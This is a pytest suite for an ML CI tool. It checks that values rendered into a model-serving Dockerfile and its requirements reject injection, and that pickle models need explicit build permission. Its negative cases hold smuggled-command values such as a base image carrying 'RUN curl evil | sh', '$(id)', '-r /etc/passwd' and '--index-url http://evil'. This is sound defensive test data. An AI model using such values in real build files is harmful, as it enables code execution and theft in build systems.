"""Every value rendered into the serving image's Dockerfile or requirements is checked for its field;
the image knows the model's framework (requirements, system packages); pickle needs the build's say."""

from __future__ import annotations

import json
import operator
import re
from importlib import metadata
from pathlib import Path

import joblib
import numpy as np
import pandas as pd
import pytest
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer

from mlci_lib.cli import main
from mlci_lib.cli.serve_cmd import loading_decisions
from mlci_lib.errors import ConfigError, InputError, UnsafeModelError, UsageError
from mlci_lib.image import fields
from mlci_lib.image.build import build_image
from mlci_lib.image.context import (
    label_instruction,
    prepare_context,
    serving_requirements,
    system_packages_for,
    template_path,
)
from mlci_lib.models import load_model, save_model
from mlci_lib.pipeline.config import load_config
from mlci_lib.serving.server import ModelService

GOOD_REFERENCES = [
    "python:3.12-slim",
    "python",
    "library/python:3.12",
    "ghcr.io/acme/python:3.12-slim",
    "localhost:5000/team/base_image.v2:1",
    "registry.example.com:443/a/b/c@sha256:" + "a" * 64,
    "python:3.12-slim@sha256:" + "0" * 64,
    "[::1]:5000/base:x",
]
BAD_REFERENCES = [
    "python:3.12-slim\nRUN curl evil | sh",
    "python:3.12-slim RUN id",
    "Python:3.12",
    "python:3.12 ",
    "python:$(id)",
    "python:-dash",
    "python@sha256:short",
    "",
    "python:3.12\r\nUSER 0",
]


@pytest.mark.parametrize("value", GOOD_REFERENCES)
def test_image_references_that_are_valid(value: str) -> None:
    assert fields.check_base_image(value) == value


@pytest.mark.parametrize("value", BAD_REFERENCES)
def test_image_references_that_would_inject_or_are_malformed(value: str) -> None:
    with pytest.raises(InputError, match="is not an image reference"):
        fields.check_base_image(value)


@pytest.mark.parametrize(
    ("check", "good", "bad"),
    [
        (fields.check_python_version, ["3.12", "3.9", "3.12.4"], ["3", "3.12\nRUN id", "py3.12", "3.12 "]),
        (fields.check_platform, ["manylinux_2_28_x86_64", "linux_aarch64"], ["x86 64", "a\nb", "Linux-x"]),
        (fields.check_user, ["10001", "10001:10001"], ["0", "0:0", "root", "1000\nUSER 0", "10001:"]),
        (fields.check_requirement, ["xgboost==3.2.0", "a[b,c]>=1,<2", "onnx"], ["x==1\n-r /etc/x", "-e ."]),
    ],
    ids=["python-version", "platform", "user", "requirement"],
)
def test_field_grammars(check, good: list[str], bad: list[str]) -> None:  # type: ignore[no-untyped-def]
    for value in good:
        check(value)
    for value in bad:
        with pytest.raises(InputError):
            check(value)


@pytest.mark.parametrize("port", [0, 65536, True, "8080\nRUN id"])
def test_ports_outside_the_range_are_refused(port: object) -> None:
    with pytest.raises(InputError, match="port number"):
        fields.check_port(port)


def test_system_packages_follow_debians_grammar() -> None:
    assert fields.check_system_packages(["libgomp1", " libstdc++6 ", "libgomp1", ""]) == [
        "libgomp1",
        "libstdc++6",
    ]
    for bad in ["libgomp1; curl evil", "LibGomp", "a", "-x", "lib gomp", "libgomp1\nRUN id", "$(id)"]:
        with pytest.raises(InputError, match="not a Debian package name"):
            fields.check_system_packages([bad])


def test_labels_stay_on_one_line_without_control_characters() -> None:
    text = label_instruction({"k\nRUN id": "v\r\nRUN id\x00\x1b[31m"})
    assert "\n" not in text.replace(" \\\n      ", "") and "\x00" not in text and "\x1b" not in text
    assert text == '"k RUN id"="v RUN id[31m"'


def _context(tmp_path: Path, model: Path, **overrides: object) -> str:
    options: dict = {
        "model": model,
        "base_image": "python:3.12-slim",
        "requirements": ["numpy==2.0.0"],
        "wheelhouse": False,
        "python_version": "3.12",
        "platform": "manylinux_2_28_x86_64",
        "info": {},
        "warmup_rows": None,
    }
    options.update(overrides)
    dockerfile, _ = prepare_context(tmp_path / "context", **options)
    return dockerfile.read_text()


@pytest.fixture
def sk_model(tmp_path: Path) -> Path:
    data = pd.DataFrame({"a": np.arange(40.0), "b": np.arange(40.0) % 3})
    return save_model(
        LogisticRegression().fit(data, np.arange(40) % 2), tmp_path / "model", sample_input=data
    )


def test_system_packages_are_installed_only_when_the_base_lacks_them(tmp_path: Path, sk_model: Path) -> None:
    text = _context(tmp_path, sk_model, system_packages=["libgomp1"])
    assert "for p in libgomp1; do" in text
    assert "dpkg-query -W" in text and "apt-get install" in text
    assert "{{" not in text
    assert text.index("for p in libgomp1") < text.index("USER 10001:10001")  # installed as root


@pytest.mark.parametrize(
    ("overrides", "match"),
    [
        ({"base_image": "python:3.12-slim\nRUN curl evil | sh"}, "not an image reference"),
        ({"python_version": "3.12\nRUN id"}, "not a Python version"),
        ({"platform": "x\nRUN id"}, "not a wheel platform"),
        ({"port": 0}, "port number"),
        ({"user": "0"}, "non-root"),
        ({"system_packages": ["libgomp1\nRUN id"]}, "Debian package"),
        ({"requirements": ["numpy==2.0\n--index-url http://evil"]}, "plain requirement"),
    ],
    ids=["base-image", "python-version", "platform", "port", "user", "system-package", "requirement"],
)
def test_the_context_refuses_every_injected_value(
    tmp_path: Path, sk_model: Path, overrides: dict, match: str
) -> None:
    with pytest.raises(InputError, match=match):
        _context(tmp_path, sk_model, **overrides)
    assert not (tmp_path / "context" / "Dockerfile").exists()


def test_template_names_every_placeholder_it_uses() -> None:
    header = template_path().read_text().split("FROM", 1)[0]
    for name in ("base_image", "pip_options", "port", "user", "labels", "system_packages"):
        assert name in header


def test_model_requirements_are_pinned_and_user_requirements_win() -> None:
    pins = serving_requirements([], ["xgboost", "LightGBM"])
    assert f"xgboost=={metadata.version('xgboost')}" in pins
    assert f"lightgbm=={metadata.version('lightgbm')}" in pins
    assert system_packages_for(pins) == ["libgomp1"]
    mine = serving_requirements(["xgboost==3.0.0"], ["xgboost"])
    assert "xgboost==3.0.0" in mine and f"xgboost=={metadata.version('xgboost')}" not in mine
    assert system_packages_for(serving_requirements()) == []


def test_a_model_requirement_that_is_not_installed_is_named() -> None:
    with pytest.raises(ConfigError, match="the model needs not-installed-framework-xyz"):
        serving_requirements([], ["not-installed-framework-xyz"])


@pytest.mark.parametrize(
    ("key", "value", "match"),
    [
        ("base-image", "python:3.12-slim\nRUN curl evil | sh", "not an image reference"),
        ("python-version", "3.12\nRUN id", "does not match|not a Python version"),
        ("system-packages", ["libgomp1; id"], "does not match|Debian package"),
        ("requirements", ["numpy\n-r /etc/passwd"], "plain requirement"),
    ],
)
def test_mlci_yaml_values_from_variables_are_checked_at_load(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str, value: object, match: str
) -> None:
    settings = {
        "repository": "localhost:5000/m",
        key: "${MLCI_TEST_VALUE}" if isinstance(value, str) else value,
    }
    config = {"version": 1, "model": {"name": "m"}, "stages": {"image-build": settings}}
    path = tmp_path / "mlci.yaml"
    path.write_text(json.dumps(config))
    environ = {"MLCI_TEST_VALUE": value} if isinstance(value, str) else {}
    with pytest.raises(ConfigError, match=match):
        load_config(path, environ=environ)


def test_cli_refuses_an_injected_base_image_before_building(tmp_path: Path, sk_model: Path) -> None:
    argv = [
        "image",
        "build",
        str(sk_model),
        "--repository",
        "localhost:5000/m",
        "--base-image",
        "python\nRUN id",
    ]
    assert main(argv) == 2


@pytest.fixture
def pickle_model(tmp_path: Path) -> Path:
    data = pd.DataFrame({"a": np.arange(40.0), "b": np.arange(40.0) % 3})
    path = tmp_path / "model.joblib"
    joblib.dump(LogisticRegression().fit(data, np.arange(40) % 2), path)
    return path


def test_a_pickle_model_is_not_an_image_unless_the_build_says_so(pickle_model: Path) -> None:
    with pytest.raises(UnsafeModelError, match=re.escape("image-build: {allow-pickle: true}")):
        build_image(pickle_model, repository="localhost:5000/m", tags=["t"])


def test_the_pipeline_does_not_carry_the_models_allow_pickle_into_the_image(
    tmp_path: Path, pickle_model: Path
) -> None:
    config = {
        "version": 1,
        "model": {"name": "m", "path": str(pickle_model), "allow-pickle": True},
        "stages": {"image-build": {"repository": "localhost:5000/m"}},
    }
    path = tmp_path / "mlci.yaml"
    path.write_text(json.dumps(config))
    assert main(["run", "--config", str(path)]) == 2
    verdict = json.loads((tmp_path / ".mlci" / "pipeline-verdict.json").read_text())
    stage = next(s for s in verdict["stages"] if s["name"] == "image-build")
    assert "allow-pickle" in stage["message"] and stage["status"] == "error"


def test_serving_info_from_the_build_adds_trusted_types_and_the_pickle_decision() -> None:
    info = {"trusted_types": ["_operator.neg"], "allow_pickle": True}
    assert loading_decisions(info, False, ["a.B"], source="info.json") == (True, ("_operator.neg", "a.B"))
    assert loading_decisions({}, False, [], source=None) == (False, ())
    for bad in (
        {"trusted_types": "_operator.neg"},
        {"allow_pickle": "yes"},
        {"trusted_types": ["not dotted"]},
    ):
        with pytest.raises((UsageError, InputError)):
            loading_decisions(bad, False, [], source="info.json")


def test_a_model_that_needs_a_trusted_type_serves_from_the_info_file(tmp_path: Path) -> None:
    data = pd.DataFrame({"a": np.arange(40.0), "b": np.arange(40.0) % 3})
    fitted = make_pipeline(FunctionTransformer(operator.neg), LogisticRegression()).fit(
        data, np.arange(40) % 2
    )
    folder = save_model(fitted, tmp_path / "model", sample_input=data)
    with pytest.raises(UnsafeModelError, match=r"_operator\.neg"):
        load_model(folder)
    _, trusted = loading_decisions({"trusted_types": ["_operator.neg"]}, False, [], source="info.json")
    service = ModelService(load_model(folder, trusted_types=trusted), {})
    assert service.info["model"]["pickle"] is False and service.info["model"]["framework"] == "sklearn"


def test_version_says_a_pickle_model_is_one(pickle_model: Path) -> None:
    service = ModelService(load_model(pickle_model, allow_pickle=True), {})
    assert service.info["model"]["pickle"] is True


@pytest.mark.slow
def test_trusted_types_from_third_party_packages_become_requirements() -> None:
    from mlci_lib.image.context import distributions_of_types

    types = ["lightgbm.sklearn.LGBMClassifier", "lightgbm.basic.Booster", "_operator.neg", "functools.wraps"]
    assert distributions_of_types(types) == ["lightgbm"]
    assert system_packages_for(serving_requirements([], distributions_of_types(types))) == ["libgomp1"]


def test_a_tag_with_a_line_break_is_refused() -> None:
    from mlci_lib.image.engine import check_tag

    with pytest.raises(InputError, match="not a valid image tag"):
        check_tag("v1\n")


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("MLCI_INPUT_BASE_IMAGE", "python:3.12-slim\nRUN curl evil | sh"),
        ("MLCI_INPUT_PYTHON_VERSION", "3.12\nRUN id"),
        ("MLCI_INPUT_PLATFORM", "linux\nRUN id"),
        ("MLCI_INPUT_SYSTEM_PACKAGE", "libgomp1 && curl evil"),
        ("MLCI_INPUT_REQUIREMENT", "--index-url http://evil"),
        ("MLCI_INPUT_PORT", "8080\nRUN id"),
    ],
)
@pytest.mark.slow
def test_action_inputs_are_checked_like_options(
    sk_model: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    variable: str,
    value: str,
) -> None:
    monkeypatch.setenv("MLCI_INPUT_MODEL", str(sk_model))
    monkeypatch.setenv("MLCI_INPUT_REPOSITORY", "localhost:5000/m")
    monkeypatch.setenv("MLCI_INPUT_SMOKE", "false")
    monkeypatch.setenv(variable, value)
    assert main(["--from-env", "image", "release"]) == 2
    assert "RUN" not in capsys.readouterr().out.replace(value, "")


def test_the_wheelhouse_accepts_every_older_manylinux_tag() -> None:
    from mlci_lib.image.context import compatible_platforms

    tags = compatible_platforms("manylinux_2_28_x86_64")
    assert tags[0] == "manylinux_2_28_x86_64"
    assert {"manylinux_2_18_x86_64", "manylinux2014_x86_64", "manylinux1_x86_64"} <= set(tags)
    assert not any(t.startswith("manylinux_2_29") for t in tags)
    assert compatible_platforms("musllinux_1_2_x86_64") == ["musllinux_1_2_x86_64"]


def test_a_framework_model_that_fails_its_warm_up_points_at_its_framework(sk_model: Path) -> None:
    import dataclasses

    import lightgbm

    from mlci_lib.errors import ModelLoadError

    loaded = load_model(sk_model)
    unfitted = dataclasses.replace(loaded, estimator=lightgbm.LGBMClassifier(), framework="lightgbm")
    service = ModelService(unfitted, {})
    with pytest.raises(ModelLoadError) as caught:
        service.warm_up(pd.DataFrame({"a": [1.0], "b": [2.0]}))
    assert "installed LightGBM" in str(caught.value) and "scikit-learn" not in str(caught.value)


def test_mlci_yaml_takes_the_image_builds_own_keys(tmp_path: Path) -> None:
    settings = {
        "repository": "localhost:5000/m",
        "requirements": ["onnx==1.17.0"],
        "system-packages": ["libgomp1"],
        "allow-pickle": True,
    }
    path = tmp_path / "mlci.yaml"
    path.write_text(json.dumps({"version": 1, "model": {"name": "m"}, "stages": {"image-build": settings}}))
    assert load_config(path, environ={}).stages["image-build"] == settings
